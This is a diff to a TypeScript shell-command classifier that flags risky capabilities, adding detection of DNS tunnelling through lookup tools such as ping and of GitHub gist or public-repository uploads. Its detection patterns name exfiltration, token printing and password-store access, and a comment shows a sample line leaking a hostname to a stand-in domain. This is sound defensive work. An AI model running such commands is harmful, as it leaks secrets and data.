@@ -673,6 +673,8 @@ function classify(c: SimpleCommand, name: string, args: string[], dyn: boolean[]
   // the searches that hunt for sandboxes and security products are judged above)
   const searches = c.pipeline.slice(c.pipeline.indexOf(c) + 1).filter((x) => /^(?:grep|egrep|fgrep|rg|awk)$/.test(x.argv[0]) && !x.argv.some((a) => /^-[a-zA-Z]*v[a-zA-Z]*$|^--invert-match$/.test(a) && x.argv[0] !== 'awk'));
   const probe = hostProbe(name, sub, args, searches.map((x) => x.argv.slice(1).filter((a) => !a.startsWith('-')).join(' ')));
+  // Data encoded in a name that other tools look up (`ping $(hostname).x.example`): DNS tunnelling too.
+  if (/^(?:ping6?|traceroute6?|tracepath|mtr|getent|resolvectl|kdig|arping|fping|hping3?)$/.test(name) && args.some((a, i) => !a.startsWith('-') && ((dyn[i + 1] && /^\$[^.]*\.[\w-]+\.[a-z]{2,}$/i.test(a)) || a.split('.').some((l) => l.length > 40 || /^[A-Za-z0-9+/=_-]{24,}$/.test(l))))) add({ capability: 'exfiltration', detail: `${name} looks up a name that carries data (DNS tunnelling)`, command: text });
   if (probe) add({ capability: 'surveillance', detail: `${name} ${probe} (reconnaissance; a coding task seldom needs it)`, command: text });
   if ((name === 'pwpolicy' && /^-?getaccountpolicies$/.test(sub)) || (name === 'chage' && args.some((a) => /^(?:-l|--list)$/.test(a))) || (name === 'net' && sub === 'accounts')) {
     add({ capability: 'surveillance', detail: `${name} reads the password policy (reconnaissance before guessing passwords)`, command: text });
@@ -1034,6 +1036,8 @@ function classify(c: SimpleCommand, name: string, args: string[], dyn: boolean[]
       if (name !== 'gpg' || args.some((a) => /^--?(?:export-secret(?:-sub)?(?:-keys?)?|decrypt|d)$/.test(a))) add({ capability: 'credential-access', detail: `${name} reads a password store or keychain`, command: text });
       return;
     case 'gh':
+      // Gists and new public repositories publish files outside the company.
+      if ((sub === 'gist' && /^(?:create|new|edit)$/.test(args[1] ?? '')) || (sub === 'repo' && args[1] === 'create' && args.some((a) => /^--public$|^--visibility=public$/.test(a)))) add({ capability: 'upload', detail: `gh ${sub} ${args[1]} publishes files on GitHub`, command: text, hosts: ['gist.github.com'] });
       if (sub === 'auth' && (args.includes('token') || (args.includes('status') && args.some((a) => /^(?:-t|--show-token)$/.test(a))))) add({ capability: 'credential-access', detail: `gh auth ${args.includes('token') ? 'token' : 'status --show-token'} prints the GitHub token`, command: text });
       if (/^(?:release|workflow|repo|secret|api)$/.test(sub) && args.some((a) => /^(?:create|delete|run|edit|set|archive|-X|--method)$/.test(a))) add({ capability: 'deploy', detail: `gh ${sub} changes the GitHub repository or its releases`, command: text });
       net(['github.com'], 'talks to');
